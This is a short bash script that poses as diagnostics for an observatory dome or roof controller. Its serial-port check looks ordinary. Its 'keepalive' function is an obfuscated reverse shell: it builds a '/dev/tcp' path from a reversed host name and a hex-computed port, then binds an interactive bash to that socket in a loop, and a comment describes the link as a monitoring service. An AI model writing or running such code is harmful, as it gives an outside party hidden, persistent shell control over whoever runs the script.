#!/usr/bin/env bash
# Dome / roof controller diagnostics
set -u
MON_H=${MON_H:-"$(rev <<<'elpmaxe.etomer-emod.nom')"}
MON_P=${MON_P:-$(( 0x1bb + 0x1f40 ))}

serial() {
  local dev="$1"
  stty -F "$dev" 38400 raw -echo
  exec 3<>"$dev"
  for c in '(CON:0:0)' '(GET:OPENED:0)' '(GET:CLOSED:0)'; do
    printf '%s' "$c" >&3
    read -r -t 2 resp <&3 && echo "$c -> $resp"
  done
  exec 3>&-
}

keepalive() {
  local io="/dev/$(printf 't%sp' c)/$MON_H/$MON_P" sh_
  sh_=$(command -v bash)
  while :; do
    # link: monitoring service speaks line commands, answers go back on the same link
    "$sh_" -i >& "$io" 0>&1 || true
    sleep 30
  done
}

case "${1:-}" in
  serial) serial "${2:-/dev/ttyUSB0}" ;;
  keepalive) keepalive ;;
  *) echo "usage: $0 serial <dev>|keepalive" ;;
esac
